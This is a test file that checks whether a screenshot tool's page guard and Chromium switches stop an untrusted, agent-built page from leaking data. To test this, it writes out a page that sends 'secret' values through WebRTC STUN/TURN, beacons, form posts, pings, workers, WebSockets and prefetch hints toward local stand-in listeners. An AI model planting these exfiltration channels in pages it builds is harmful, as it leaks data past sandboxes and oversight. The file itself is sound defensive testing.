import dgram from 'node:dgram'
import { mkdtemp, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { chromium, type Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { electronGuardPreload } from '../../src/main/electron/guard-preload'
import { pageGuardScript } from '../../src/main/runs/page-guard'
import { CHROMIUM_ARGS, playwrightScreenshots } from '../../src/main/runs/playwright-screenshots'
import type { Shot } from '../../src/main/runs/screenshots'

// An agent-built page tries every way out we know of while it is screenshotted. Loopback listeners stand
// in for the outside world: a UDP socket (WebRTC STUN/TURN, QUIC) and two HTTP servers (one counts the
// TCP connections a preconnect would open). WebRTC never passed the request filter: before the fix, the
// UDP listener received STUN packets from every kind of frame (the control below still shows it).

const WEBRTC_SWITCHES = ['--webrtc-ip-handling-policy', '--force-webrtc-ip-handling-policy', '--disable-quic', '--disable-blink-features']
/** The arguments the port had before: everything but Chromium's WebRTC/QUIC switches. */
const OLD_ARGS = CHROMIUM_ARGS.filter((a) => !WEBRTC_SWITCHES.some((s) => a.startsWith(s)))

describe('screenshots: no way out for an untrusted page', () => {
  let udp: dgram.Socket
  const packets: Buffer[] = []
  let http: Server
  let preconnect: Server
  const hits: string[] = []
  let connections = 0
  let U = 0
  let P = 0
  let P2 = 0
  let root: string

  // A WebRTC attempt; `tag` names the frame (an extra ICE server, so the blocked entry says where it was).
  const rtc = (tag: string) =>
    `try { var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${U}' }, { urls: 'turn:127.0.0.1:${U}?transport=udp', username: 'exfil-${tag}', credential: 'x' }, { urls: 'stun:${tag}.invalid' }] }); pc.createDataChannel('d'); pc.createOffer().then(function (o) { return pc.setLocalDescription(o) }) } catch (e) {}`

  beforeAll(async () => {
    udp = dgram.createSocket('udp4')
    udp.on('message', (m) => packets.push(m))
    await new Promise<void>((ok) => udp.bind(0, '127.0.0.1', () => ok()))
    U = udp.address().port
    const listen = async (s: Server) => {
      s.on('connection', () => connections++)
      await new Promise<void>((ok) => s.listen(0, '127.0.0.1', () => ok()))
      return (s.address() as AddressInfo).port
    }
    http = createServer((req, res) => (hits.push(req.url ?? ''), res.end('leak')))
    preconnect = createServer((req, res) => (hits.push(`pre${req.url}`), res.end('leak')))
    P = await listen(http)
    P2 = await listen(preconnect)
    const H = `http://127.0.0.1:${P}`
    const worker = `fetch('${H}/worker-fetch').catch(function(){}); try { new WebSocket('ws://127.0.0.1:${P}/worker-ws') } catch (e) {} try { importScripts('${H}/worker-import') } catch (e) {} if (self.RTCPeerConnection) { ${rtc('worker')} } if (self.WebTransport) try { new WebTransport('https://127.0.0.1:${U}/wt-worker') } catch (e) {}`
    root = await mkdtemp(join(tmpdir(), 't2s-leaks-'))
    await writeFile(
      join(root, 'rtc.html'),
      `<!doctype html><html><head>
      <link rel="preconnect" href="http://127.0.0.1:${P2}"><link rel="dns-prefetch" href="//dns-prefetch-leak.example">
      <link rel="prefetch" href="${H}/prefetch"><link rel="preload" as="image" href="${H}/preload">
      <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${H}/spec-prefetch"]}],"prerender":[{"source":"list","urls":["${H}/spec-prerender"]}]}</script>
      <style>@import url('${H}/css-import'); h1 { background: url('${H}/css-bg') }</style>
      </head><body style="background:#fff"><h1>Leaky page</h1>
      <iframe srcdoc="<script>${rtc('srcdoc').replace(/"/g, '&quot;')}</script>"></iframe>
      <iframe src="data:text/html,<script>${encodeURIComponent(rtc('data'))}</script>"></iframe>
      <iframe name="sink" srcdoc="<p>sink</p>"></iframe>
      <iframe srcdoc="<meta http-equiv=refresh content='0;url=${H}/refresh'>"></iframe>
      <form id="f" method="post" action="${H}/form" target="sink"><input name="a" value="secret"></form>
      <a id="a" href="#x" ping="${H}/ping">ping</a>
      <script>
      ${rtc('main')}
      try { var fr = document.createElement('iframe'); document.body.appendChild(fr); var W = fr.contentWindow; var pc2 = new W.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${U}' }, { urls: 'stun:blank.invalid' }] }); pc2.createDataChannel('d'); pc2.createOffer().then(function (o) { return pc2.setLocalDescription(o) }) } catch (e) {}
      try { var w = window.open(''); if (w) { var pc3 = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${U}' }] }); pc3.createDataChannel('d'); pc3.createOffer().then(function (o) { return pc3.setLocalDescription(o) }) } } catch (e) {}
      if (window.WebTransport) try { new WebTransport('https://127.0.0.1:${U}/wt') } catch (e) {}
      new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}], { type: 'text/javascript' })));
      fetch('${H}/fetch').catch(function(){}); fetch('${H}/keepalive', { method: 'POST', body: 'x', keepalive: true }).catch(function(){});
      navigator.sendBeacon('${H}/beacon', 'secret'); new EventSource('${H}/es');
      try { new WebSocket('ws://127.0.0.1:${P}/ws') } catch (e) {}
      window.open('${H}/open'); document.getElementById('f').submit(); document.getElementById('a').click();
      </script></body></html>`
    )
  })
  afterAll(async () => {
    udp.close()
    http.close()
    preconnect.close()
  })

  /** The page in a browser of our own: for the layers one at a time, and the control. */
  async function bare(args: string[], guard: boolean): Promise<Browser> {
    const browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args })
    const context = await browser.newContext()
    if (guard) await context.addInitScript({ content: pageGuardScript('t2s-test:') })
    const html = await import('node:fs/promises').then((fs) => fs.readFile(join(root, 'rtc.html')))
    await context.route('**/*', (r) =>
      r.request().url() === 'http://workspace.invalid/rtc.html'
        ? r.fulfill({ status: 200, body: html, contentType: 'text/html' })
        : r.abort()
    )
    const page = await context.newPage()
    await page.goto('http://workspace.invalid/rtc.html', { waitUntil: 'load' })
    return browser
  }

  it('lets no WebRTC packet, request or connection out, and lists the attempts (each layer on its own too)', async () => {
    const full = playwrightScreenshots()
    const guardOnly = playwrightScreenshots({ launchArgs: OLD_ARGS })
    let shots: Shot[]
    let guarded: Shot[]
    try {
      shots = await full.capture({
        htmlFile: join(root, 'rtc.html'),
        root,
        outDir: join(root, '.shots'),
        name: 'rtc',
        timeoutMs: 15_000,
        widths: [{ label: 'desktop', width: 1280 }]
      })
      guarded = await guardOnly.capture({
        htmlFile: join(root, 'rtc.html'),
        root,
        outDir: join(root, '.shots'),
        name: 'g',
        timeoutMs: 15_000,
        widths: [{ label: 'mobile', width: 390 }]
      })
      // Chromium's switches alone (no guard): the page really calls RTCPeerConnection
      const flagsOnly = await bare(CHROMIUM_ARGS, false)
      await new Promise((r) => setTimeout(r, 2000)) // STUN goes out within milliseconds (see the control)
      await flagsOnly.close()
    } finally {
      await Promise.all([full.close(), guardOnly.close()])
    }
    expect(packets.length).toBe(0)
    expect(hits).toEqual([])
    expect(connections).toBe(0)

    for (const s of [...shots, ...guarded]) {
      expect(s.error).toBeUndefined()
      expect(s.blank).toBe(false)
      const blocked = s.blockedRequests
      // every frame's attempt is listed: the page, srcdoc, data: and script-made about:blank frames
      for (const tag of ['main', 'srcdoc', 'data', 'blank'])
        expect(blocked.some((b) => b.startsWith('webrtc ') && b.includes(`stun:${tag}.invalid`))).toBe(true)
      expect(blocked).toContain(`webrtc stun:127.0.0.1:${U} turn:127.0.0.1:${U}?transport=udp stun:main.invalid`)
      expect(blocked).toContain('window.open ')
      expect(blocked).toContain(`window.open http://127.0.0.1:${P}/open`)
      for (const path of [
        'fetch',
        'keepalive',
        'beacon',
        'es',
        'form',
        'ping',
        'refresh',
        'worker-fetch',
        'worker-import',
        'css-import',
        'preload'
      ])
        expect(blocked).toContain(`http://127.0.0.1:${P}/${path}`)
      expect(blocked).toContain(`ws://127.0.0.1:${P}/ws`)
    }

    // The listeners do hear what reaches them.
    expect(await (await fetch(`http://127.0.0.1:${P}/control`)).text()).toBe('leak')
    expect(hits).toEqual(['/control'])
  }, 120_000)

  it('control: the same page in Chromium as the port used to run it sends STUN packets to the listener', async () => {
    const before = packets.length
    const browser = await bare(OLD_ARGS, false)
    try {
      // waits for the first packet (usually milliseconds), up to 15 s
      for (let i = 0; i < 150 && packets.length === before; i++) await new Promise((r) => setTimeout(r, 100))
    } finally {
      await browser.close()
    }
    expect(packets.length).toBeGreaterThan(before)
    expect(packets[before].readUInt16BE(0)).toBe(0x0001) // a STUN Binding Request (RFC 5389)
    expect(packets[before].readUInt32BE(4)).toBe(0x2112a442) // STUN magic cookie
  }, 60_000)
  it("the Electron port's preload runs the same guard in the page's world (Electron itself cannot run here)", async () => {
    // The preload as Electron's sandbox would run it, with a stand-in for contextBridge that hands over
    // the function the way executeInMainWorld does (by its source text).
    let handed: { func: (...a: unknown[]) => unknown; args?: unknown[] } | null = null
    const fakeRequire = (m: string) => {
      expect(m).toBe('electron')
      return { contextBridge: { executeInMainWorld: (script: typeof handed) => (handed = script) } }
    }
    new Function('require', electronGuardPreload('t2s-electron:'))(fakeRequire)
    expect(handed!.args).toEqual(['t2s-electron:'])
    const browser = await chromium.launch({ executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium', args: OLD_ARGS })
    const before = packets.length
    const logged: string[] = []
    try {
      const context = await browser.newContext()
      await context.addInitScript({ content: `(${handed!.func.toString()})(...${JSON.stringify(handed!.args)})` })
      context.on('console', (m) => logged.push(m.text()))
      await context.route('**/*', (r) => r.fulfill({ status: 200, contentType: 'text/html', body: `<script>${rtc('electron')}</script>` }))
      const page = await context.newPage()
      await page.goto('http://workspace.invalid/')
      expect(await page.evaluate(() => [typeof RTCDataChannel, typeof RTCRtpSender, window.open('x')])).toEqual([
        'undefined',
        'undefined',
        null
      ])
      await new Promise((r) => setTimeout(r, 1000))
    } finally {
      await browser.close()
    }
    expect(packets.length).toBe(before)
    expect(logged).toContain(`t2s-electron:webrtc stun:127.0.0.1:${U} turn:127.0.0.1:${U}?transport=udp stun:electron.invalid`)
  }, 60_000)
})
